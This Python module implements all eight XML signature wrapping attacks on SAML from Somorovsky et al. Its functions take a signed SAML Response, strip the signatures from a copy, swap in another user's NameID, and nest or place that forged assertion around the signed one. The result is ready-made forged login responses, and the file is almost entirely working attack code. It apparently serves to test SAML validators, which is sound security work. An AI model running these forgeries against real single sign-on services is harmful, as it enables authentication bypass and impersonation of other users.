"""XML signature wrapping: the eight ways to place a forged assertion beside, around or inside of a signed one.

Source: J. Somorovsky et al., On Breaking SAML: Be Whoever You Want to Be, USENIX Security 2012.
"""

from __future__ import annotations

from collections.abc import Callable
from copy import deepcopy
from typing import Any

from lxml import etree  # type: ignore[import-untyped]  # has no types of its own

SAML = "{urn:oasis:names:tc:SAML:2.0:assertion}"
SAMLP = "{urn:oasis:names:tc:SAML:2.0:protocol}"
SIGNATURE = "{http://www.w3.org/2000/09/xmldsig#}Signature"
OBJECT = "{http://www.w3.org/2000/09/xmldsig#}Object"


def _forged(element: Any, name: str) -> Any:
    """Return a copy of an element without signatures, with another id, about somebody else."""
    copy = deepcopy(element)
    for signature in list(copy.iter(SIGNATURE)):
        signature.getparent().remove(signature)
    copy.set("ID", "_forged")
    for item in copy.iter(f"{SAML}NameID"):
        item.text = name
    return copy


def _unsigned(element: Any) -> Any:
    copy = deepcopy(element)
    for signature in copy.findall(SIGNATURE):
        copy.remove(signature)
    return copy


def _response_1(root: Any, name: str) -> Any:
    """The signed Response inside of the signature of a forged one."""
    evil = _forged(root, name)
    original = _unsigned(root)
    signature = deepcopy(root.find(SIGNATURE))
    signature.append(original)
    evil.insert(1, signature)
    return evil


def _response_2(root: Any, name: str) -> Any:
    """The signed Response before a detached signature, in a forged one."""
    evil = _forged(root, name)
    evil.insert(1, deepcopy(root.find(SIGNATURE)))
    evil.insert(1, _unsigned(root))
    return evil


def _assertion_3(root: Any, name: str) -> Any:
    """A forged assertion before the signed one."""
    signed = root.find(f"{SAML}Assertion")
    signed.addprevious(_forged(signed, name))
    return root


def _assertion_4(root: Any, name: str) -> Any:
    """The signed assertion inside of a forged one."""
    signed = root.find(f"{SAML}Assertion")
    evil = _forged(signed, name)
    root.replace(signed, evil)
    evil.append(signed)
    return root


def _assertion_5(root: Any, name: str) -> Any:
    """The signature in a forged assertion, what it signed at the end."""
    signed = root.find(f"{SAML}Assertion")
    evil = _forged(signed, name)
    evil.insert(1, deepcopy(signed.find(SIGNATURE)))
    root.replace(signed, evil)
    root.append(_unsigned(signed))
    return root


def _assertion_6(root: Any, name: str) -> Any:
    """The signature in a forged assertion, what it signed inside of the signature."""
    signed = root.find(f"{SAML}Assertion")
    evil = _forged(signed, name)
    signature = deepcopy(signed.find(SIGNATURE))
    signature.append(_unsigned(signed))
    evil.insert(1, signature)
    root.replace(signed, evil)
    return root


def _assertion_7(root: Any, name: str) -> Any:
    """A forged assertion in the extensions, which schemas do not look into."""
    signed = root.find(f"{SAML}Assertion")
    extensions = etree.Element(f"{SAMLP}Extensions")
    extensions.append(_forged(signed, name))
    root.insert(1, extensions)
    return root


def _assertion_8(root: Any, name: str) -> Any:
    """The signature in a forged assertion, what it signed in an Object of the signature."""
    signed = root.find(f"{SAML}Assertion")
    evil = _forged(signed, name)
    signature = deepcopy(signed.find(SIGNATURE))
    holder = etree.SubElement(signature, OBJECT)
    holder.append(_unsigned(signed))
    evil.insert(1, signature)
    root.replace(signed, evil)
    return root


OF_RESPONSES: tuple[Callable[[Any, str], Any], ...] = (_response_1, _response_2)
OF_ASSERTIONS: tuple[Callable[[Any, str], Any], ...] = (
    _assertion_3,
    _assertion_4,
    _assertion_5,
    _assertion_6,
    _assertion_7,
    _assertion_8,
)


def wrapped(xml: str, attack: Callable[[Any, str], Any], name: str) -> str:
    """Return a signed Response in which an attack put somebody else's name."""
    return str(etree.tostring(attack(etree.fromstring(xml.encode()), name)).decode())
